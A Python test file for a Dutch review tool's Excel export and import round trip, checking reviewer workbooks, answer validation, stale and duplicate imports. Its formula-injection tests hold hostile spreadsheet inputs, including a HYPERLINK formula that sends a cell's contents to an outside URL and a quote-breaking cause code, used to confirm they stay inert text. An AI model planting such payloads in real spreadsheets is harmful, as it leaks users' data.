"""The Excel round trip: export per reviewer, fill in, read back, all or nothing."""

from __future__ import annotations

import re
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from kic.controls.catalogue import AnswerType
from kic.controls.causes import Cause
from kic.controls.loader import load_catalogue
from kic.csvexport import FORMULA_STARTS, xlsx_text
from kic.db import session_scope
from kic.review.models import Review, ReviewImport
from kic.review.service import ReviewInput, create_reviews, item_controls, item_frame, save_review
from kic.review.workbook import (
    CHECKLIST,
    ITEMS,
    WorkbookError,
    export_workbooks,
    fill_answers,
    import_workbook,
)
from kic.samples.models import SampleItem
from kic.synth.reviewer import simulated_answers


@pytest.fixture
def workbooks(population, sample_id, tmp_path) -> list[Path]:  # type: ignore[no-untyped-def]
    with session_scope(population) as session:
        create_reviews(session, sample_id, ["ali", "bea"], actor="teamleider")
        return export_workbooks(session, sample_id, tmp_path / "uit", actor="teamleider")


def fill(
    path: Path, answer=lambda row: "ja" if row[7] == "janee" else None, only_first: bool = False
) -> Path:  # type: ignore[no-untyped-def]
    book = load_workbook(path)
    sheet = book[CHECKLIST]
    first = sheet.cell(2, 1).value
    for row in sheet.iter_rows(min_row=2):
        values = [c.value for c in row]
        if only_first and values[0] != first:
            continue
        value = answer(values)
        if value is not None:
            row[9].value = value
    book.save(path)
    return path


def test_one_workbook_per_reviewer_without_bsn(workbooks):
    assert [p.name.split("-")[-1] for p in workbooks] == ["ali.xlsx", "bea.xlsx"]
    book = load_workbook(workbooks[0])
    headers = [c.value for c in book[ITEMS][1]]
    assert "BSN" not in headers and book["kic"].sheet_state == "hidden"
    assert book[CHECKLIST].data_validations.dataValidation, "answer cells are validated"


def test_a_filled_workbook_records_verdicts_like_the_web_page(population, workbooks):
    with session_scope(population) as session:
        summary = import_workbook(session, fill(workbooks[0]), actor="teamleider")
        reviews = session.scalars(select(Review).where(Review.id.in_(summary.recorded))).all()
        assert summary.recorded and not summary.untouched
        assert {(r.status, r.verdict, r.source) for r in reviews} == {("afgerond", "voldoet", "excel")}


def test_the_same_file_twice_is_refused(population, workbooks):
    filled = fill(workbooks[0])
    with session_scope(population) as session:
        import_workbook(session, filled, actor="teamleider")
    with session_scope(population) as session, pytest.raises(WorkbookError, match="al ingelezen"):
        import_workbook(session, filled, actor="teamleider")


def test_every_bad_answer_is_reported_and_nothing_is_recorded(population, workbooks):
    bad = fill(workbooks[0], answer=lambda row: "misschien" if row[7] == "janee" else None)
    with session_scope(population) as session, pytest.raises(WorkbookError) as caught:
        import_workbook(session, bad, actor="teamleider")
    problems = caught.value.problems
    assert len(problems) > 10 and all(p.sheet == CHECKLIST and p.column == "J" and p.row for p in problems)
    assert "kies ja, nee of nvt" in str(problems[0])
    with session_scope(population) as session:
        assert session.scalar(select(func.count()).select_from(ReviewImport)) == 0
        assert session.scalar(select(func.count()).select_from(Review).where(Review.status != "te_doen")) == 0


def test_an_item_reviewed_elsewhere_after_export_is_refused(population, workbooks):
    filled = fill(workbooks[0], only_first=True)
    first = load_workbook(filled)[CHECKLIST].cell(2, 1).value
    with session_scope(population) as session:
        review = session.get(Review, first)
        save_review(
            session,
            first,
            ReviewInput({}),
            actor="ali",
            expected_version=review.version,
            submit=False,
            source="web",
        )
    with session_scope(population) as session, pytest.raises(WorkbookError) as caught:
        import_workbook(session, filled, actor="teamleider")
    assert "na de export elders gewijzigd" in str(caught.value.problems[0])


def test_unfilled_items_stay_open(population, workbooks):
    with session_scope(population) as session:
        summary = import_workbook(session, fill(workbooks[0], only_first=True), actor="teamleider")
    assert len(summary.recorded) == 1 and summary.untouched


def test_a_file_that_is_not_a_workbook_is_refused(population, tmp_path):
    junk = tmp_path / "x.xlsx"
    junk.write_text("geen excel")
    with session_scope(population) as session, pytest.raises(WorkbookError, match="geen leesbaar"):
        import_workbook(session, junk, actor="teamleider")


def test_cause_and_explanation_from_the_items_sheet_are_recorded(population, workbooks):
    book = load_workbook(workbooks[0])
    first = book[CHECKLIST].cell(2, 1).value
    fill(workbooks[0], only_first=True)
    fill_answers(workbooks[0], {}, {first: ("systeem", "koppeling met de BRP viel uit")})
    with session_scope(population) as session:
        import_workbook(session, workbooks[0], actor="teamleider")
        review = session.get(Review, first)
        assert (review.cause_code, review.explanation) == ("systeem", "koppeling met de BRP viel uit")


def test_an_unknown_cause_is_refused_with_its_cell(population, workbooks):
    first = load_workbook(workbooks[0])[CHECKLIST].cell(2, 1).value
    fill(workbooks[0], only_first=True)
    fill_answers(workbooks[0], {}, {first: ("pech", "")})
    with session_scope(population) as session, pytest.raises(WorkbookError) as caught:
        import_workbook(session, workbooks[0], actor="teamleider")
    assert any(
        p.sheet == ITEMS and p.row == 2 and "onbekende oorzaak 'pech'" in p.reason
        for p in caught.value.problems
    )


HOSTILE = (
    '=HYPERLINK("http://example.org/?d="&Posten!C2,"klik")',
    "+31 6 12345678",
    "-geen inkomsten",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def test_text_that_starts_like_a_formula_goes_out_as_text_and_comes_back_exactly(
    population, sample_id, tmp_path
):
    """Issue 18, item 11: a reviewer's answer or toelichting that starts with = (or +, -, @, a tab, a
    carriage return) is a text cell in the workbook for the next reviewer, never a live formula, and the
    import reads back exactly what was exported."""
    catalogue = load_catalogue()
    with session_scope(population) as session:
        first, *_ = create_reviews(session, sample_id, ["ali"], actor="teamleider")
        item = session.get(SampleItem, first.sample_item_id)
        controls = item_controls(catalogue, item_frame(session, first))
        answers = simulated_answers(controls, item.book_value, Decimal("0.00"), None)
        texts = iter(HOSTILE * 10)
        for control in controls:
            for question in control.checklist.questions:
                if question.type is AnswerType.TEKST:
                    answers.setdefault(control.id, {})[question.id] = next(texts)
        save_review(
            session,
            first.id,
            ReviewInput(answers, "systeem", HOSTILE[0]),
            actor="ali",
            expected_version=first.version,
            submit=False,
            source="web",
        )
        [path] = export_workbooks(session, sample_id, tmp_path / "uit", actor="teamleider", show_bsn=True)
    typed = [v for per_control in answers.values() for v in per_control.values() if v in HOSTILE]
    assert len(typed) >= 2, "the checklist has text questions to put hostile answers in"
    with ZipFile(path) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert [n for n, xml in sheets.items() if "<f>" in xml] == ["xl/worksheets/sheet3.xml"], (
        "only the per-item sheet has formulas: kic's own references to the checklist"
    )
    book = load_workbook(path)
    exported = {xlsx_text(h) for h in HOSTILE}  # a carriage return is written as the line end \n
    cells = [c for name in (ITEMS, CHECKLIST) for row in book[name].iter_rows() for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value in exported]
    assert len(hostile) == len(typed) + 1, "every answer and the toelichting went out as typed"
    assert all(c.data_type == "s" and c.quotePrefix == c.value.startswith(FORMULA_STARTS) for c in hostile)
    with session_scope(population) as session:
        summary = import_workbook(session, path, actor="teamleider")
        review = session.get(Review, first.id)
        assert summary.recorded == [first.id] and review.status == "afgerond"
        assert (review.cause_code, review.explanation) == ("systeem", HOSTILE[0])
        stored = {c.control_id: c.answers for c in review.controls}
        read_back = [stored[c][q] for c, given in answers.items() for q, v in given.items() if v in HOSTILE]
        # what went out comes back; the checklist keeps a text answer without its surrounding blanks, from
        # the web as from Excel
        assert read_back == [xlsx_text(v).strip() for v in typed]


def test_a_toelichting_pasted_from_word_with_a_control_character_still_exports(
    population, sample_id, tmp_path
):
    """Word's manual line break is a vertical tab, which XML cannot hold: it was a crash of the export."""
    with session_scope(population) as session:
        first, *_ = create_reviews(session, sample_id, ["ali"], actor="teamleider")
        save_review(
            session,
            first.id,
            ReviewInput({}, None, "regel 1\x0bregel 2\x1b"),
            actor="ali",
            expected_version=first.version,
            submit=False,
            source="web",
        )
        [path] = export_workbooks(session, sample_id, tmp_path, actor="teamleider")
    items = load_workbook(path)[ITEMS]
    notes = [row[-1] for row in items.iter_rows(min_row=2, values_only=True)]
    assert "regel 1\nregel 2\ufffd" in notes


def test_a_cause_code_with_a_quote_gets_no_list_rule_that_excel_would_run_as_a_formula(
    population, sample_id, tmp_path
):
    """A list rule is one quoted text; a quote inside it would end the text and make the rest a formula."""
    catalogue = load_catalogue()
    hostile = replace(
        catalogue, causes=(*catalogue.causes, Cause('x",HYPERLINK("http://example.org"),"', "aanval"))
    )
    with session_scope(population) as session:
        create_reviews(session, sample_id, ["ali"], actor="teamleider")
        [path] = export_workbooks(session, sample_id, tmp_path, actor="teamleider", catalogue=hostile)
    book = load_workbook(path)
    formulas = [
        f
        for name in (ITEMS, CHECKLIST)
        for rule in book[name].data_validations.dataValidation
        for f in (rule.formula1, rule.formula2)
        if f is not None
    ]
    assert formulas and all(re.fullmatch(r'"[^"]*"|-?\d+', f) for f in formulas), formulas
    assert not book[ITEMS].data_validations.dataValidation, "no rule for the causes, the import checks them"
